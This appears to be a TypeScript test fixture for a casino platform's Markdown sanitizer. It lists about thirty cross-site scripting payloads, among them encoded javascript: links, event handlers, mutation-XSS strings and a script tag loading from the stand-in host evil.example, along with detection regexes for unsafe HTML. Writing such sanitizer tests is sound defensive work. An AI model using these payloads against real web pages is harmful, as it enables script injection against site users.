/**
 * The usual ways to smuggle script into HTML that Markdown lets through: raw tags, event
 * handlers, dangerous link schemes (also encoded and split), frames, forms, styles and SVG.
 * Shared by the casino API's content tests and the web app's.
 */
// The last ones open an element that swallows the rest of the text: they stay at the end.
export const XSS_PAYLOADS = [
  '<a href="https://evil.example" target="_blank" rel="opener">out</a>',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="JaVaScRiPt:alert(1)">link</a>',
  '<a href="java&#x09;script:alert(1)">tab</a>',
  '<a href="&#106;avascript:alert(1)">entity</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '[markdown link](javascript:alert(1))',
  '[encoded](javascript&#58;alert(1))',
  '![image](javascript:alert(1))',
  '<p onclick="alert(1)" onmouseover="alert(1)">hover</p>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

/** What must never be in sanitized HTML. */
export const FORBIDDEN_IN_HTML = [
  /<script/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /<style/i,
  /<form/i,
  /<input/i,
  /<meta/i,
  /<base/i,
  /<img/i,
  /\son[a-z]+\s*=/i,
  /style\s*=/i,
  /(href|src|action|data)\s*=\s*["']?\s*(javascript|vbscript|data):/i,
  /rel="opener"/i,
]

/** Every forbidden pattern found in `html`. */
export const unsafeParts = (html: string) => FORBIDDEN_IN_HTML.filter((pattern) => pattern.test(html)).map(String)
